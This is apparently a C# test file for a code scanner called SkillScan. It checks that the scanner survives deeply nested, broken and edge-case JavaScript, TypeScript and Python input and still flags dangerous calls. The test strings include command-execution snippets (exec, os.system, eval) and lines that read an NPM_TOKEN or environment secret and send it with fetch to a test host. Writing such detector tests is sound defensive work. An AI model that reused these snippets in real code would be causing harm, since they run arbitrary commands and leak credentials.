using System.Text;
using SkillScan.Model;

namespace SkillScan.Tests.Semantics;

/// <summary>Hostile and broken input: deep nesting, syntax errors, TypeScript/TSX syntax, cancellation.</summary>
public sealed class RobustnessTests
{
    [Fact]
    public void DeeplyNestedJavaScriptDoesNotOverflow()
    {
        const int depth = 200_000;
        var code = new StringBuilder("eval(");
        code.Append('(', depth).Append("'a'").Append(')', depth).Append(");\n");
        code.Append("const x = ").Append('[', depth).Append(']', depth).Append(";\nrequire('child_process').exec('id');\n");
        var js = Lowered.Js(code.ToString());
        Assert.True(js.Has("eval"));
        Assert.True(js.Has("child_process.exec"));
    }

    [Fact]
    public void DeeplyNestedCallsStillYieldEveryCall()
    {
        const int depth = 5_000;
        var code = new StringBuilder();
        for (var i = 0; i < depth; i++) code.Append("f(");
        code.Append("eval('x')").Append(')', depth).Append(";\n");
        var js = Lowered.Js(code.ToString());
        Assert.Equal(depth, js.Calls("f").Count());
        Assert.True(js.Has("eval"));
    }

    /// <summary>Found by the fuzzer: a module name longer than any kept symbol made `from … import` dereference null.</summary>
    [Fact]
    public void PythonImportsOfOverlongModuleNamesAreSkipped()
    {
        var name = "m" + new string('x', 300);
        var py = Lowered.Py($"from {name} import a\nfrom {name}.b import c as d\nimport {name}\nimport {name} as e\nfrom os import {name}\nimport os\nos.system('id')\n");
        Assert.True(py.Has("os.system"));
    }

    [Fact]
    public void DeeplyNestedPythonDoesNotOverflow()
    {
        const int depth = 200_000;
        var code = new StringBuilder("import os\nx = ");
        code.Append('[', depth).Append(']', depth).Append("\ny = 1");
        for (var i = 0; i < depth; i++) code.Append(" + 1");
        code.Append("\nos.system('id')\n");
        var py = Lowered.Py(code.ToString());
        Assert.True(py.Has("os.system"));
    }

    [Fact]
    public void DeeplyNestedStatementsDoNotOverflow()
    {
        const int depth = 20_000;
        var code = new StringBuilder();
        for (var i = 0; i < depth; i++) code.Append("if (a) {");
        code.Append("eval(x);").Append('}', depth);
        var js = Lowered.Js(code.ToString());
        Assert.True(js.Has("eval"));
    }

    [Fact]
    public void SyntaxErrorsStillGiveFacts()
    {
        var js = Lowered.Js("const cp = require('child_process');\ncp.exec('id');\nfunction broken( {{{ \n  x = ;\n}\nlet = = ;\nfetch(process.env.TOKEN);\n");
        Assert.True(js.Has("child_process.exec"), js.Describe());
        // fetch(...) sits inside an ERROR node after the broken function: still a call, still tainted.
        Assert.True(js.Call("fetch").AnyInputTainted("env.read"), js.Describe());
        var py = Lowered.Py("import os\ndef broken(:\n    pass\nos.system('id')\nx = (((\nexec(input())\n");
        Assert.True(py.Has("os.system"), py.Describe());
    }

    [Fact]
    public void TypeScriptSyntax()
    {
        var ts = Lowered.Ts(
            "import { execSync } from 'child_process';\n" +
            "interface Opts { cmd: string }\n" +
            "export async function run<T>(opts: Opts, extra?: number): Promise<void> {\n" +
            "  const token = process.env.NPM_TOKEN as string;\n" +
            "  execSync(opts.cmd!);\n" +
            "  await fetch('https://x.test', { method: 'POST', body: token satisfies string });\n" +
            "}\n" +
            "class Runner { private readonly url: string = 'https://x.test'; go(): void { execSync(<string>'id'); } }\n");
        Assert.Equal(2, ts.Calls("child_process.execSync").Count());
        Assert.True(ts.Call("fetch").Named["body"].HasSource("env.read"));
    }

    [Fact]
    public void TsxSyntax()
    {
        var tsx = Lowered.Tsx(
            "import React from 'react';\n" +
            "export const App = ({ code }: { code: string }) => <button onClick={() => eval(code)}>{atob('aGVsbG8=')}</button>;\n");
        Assert.True(tsx.Has("eval"), tsx.Describe());
        Assert.Equal("hello", tsx.Call("atob").Args[0].Constant is { } ? "hello" : null);
        Assert.Contains(tsx.Facts.Strings, s => s.Value == "hello" && s.DecodedBy == "base64");
    }

    [Fact]
    public void CancellationIsHonoured()
    {
        using var cts = new CancellationTokenSource();
        cts.Cancel();
        var code = string.Concat(Enumerable.Repeat("f(1);\n", 10_000));
        Assert.ThrowsAny<OperationCanceledException>(() => Lowered.Of(code, Language.JavaScript, "a.js", cts.Token));
    }

    [Fact]
    public void QuadraticStringBuildingStaysCheap()
    {
        var code = new StringBuilder("let s = '';\n");
        for (var i = 0; i < 20_000; i++) code.Append("s = s + '0123456789abcdef0123456789abcdef';\n");
        code.Append("eval(s);\n");
        var js = Lowered.Js(code.ToString());
        Assert.True(js.Has("eval"));
        // Without a folding budget the strings recorded would total 20,000²/2 × 32 ≈ 6.4 billion characters.
        var recorded = js.Facts.Strings.Sum(s => (long)s.Value.Length);
        Assert.True(recorded < 20_000_000, $"{recorded} characters of strings recorded");
    }

    [Fact]
    public void RecursiveHelpersTerminate()
    {
        var py = Lowered.Py("import os\ndef a(x):\n    return b(x + '1')\ndef b(x):\n    os.system(x)\n    return a(x)\na('id')\n");
        Assert.True(py.Has("os.system"));
    }
}

public sealed class HostileValueTests
{
    [Theory]
    [InlineData("eval(String.fromCharCode(0xD800, 0xDC00, 0x110000));")]
    [InlineData("eval(String.fromCharCode(0xD800));")]
    [InlineData("eval('x'.repeat(1e12));")]
    [InlineData("eval('abc'.slice(NaN, 1e300));")]
    [InlineData("eval('abc'.substr(-1e300, 1e300));")]
    [InlineData("eval((1e300).toString(16) + (0x7fffffffffffffff << 99));")]
    [InlineData("eval('a'.replace(/(?<=a)b/g, ''));")]
    [InlineData("eval('a'.replace(/(/g, ''));")]
    [InlineData("eval('\\u{110000}\\u{D800}\\x' + '\\u12');")]
    [InlineData("eval(0777 + 0x + 0b2 + 1_000n);")]
    public void JavaScriptEdgeValuesDoNotThrow(string code) => Assert.True(Lowered.Js(code).Has("eval"));

    [Theory]
    [InlineData("exec('abc'[::0])\n")]
    [InlineData("exec('abc'[::-99999999999])\n")]
    [InlineData("exec('%s %(x)s %' % 1)\n")]
    [InlineData("exec('{0} {} {x!r:>{w}} {'.format(1))\n")]
    [InlineData("exec(chr(-1) + chr(0x110000) + chr(0xD800))\n")]
    [InlineData("exec('a' * 10**12)\n")]
    [InlineData("exec(b'\\xff\\xfe'.decode() + bytes.fromhex('zz').decode())\n")]
    [InlineData("exec('\\N{BULLET}\\U0010FFFF\\U00110000\\777')\n")]
    public void PythonEdgeValuesDoNotThrow(string code) => Assert.True(Lowered.Py(code).Has("exec"));

    [Fact]
    public void SelfReferencingObjectsDoNotLoop()
    {
        var js = Lowered.Js("const a = {}; a.self = a; a.x = process.env.T; const b = [a]; b.push(b); fetch(u, { body: b });");
        Assert.True(js.Call("fetch").Named["body"].HasSource("env.read"));
    }
}
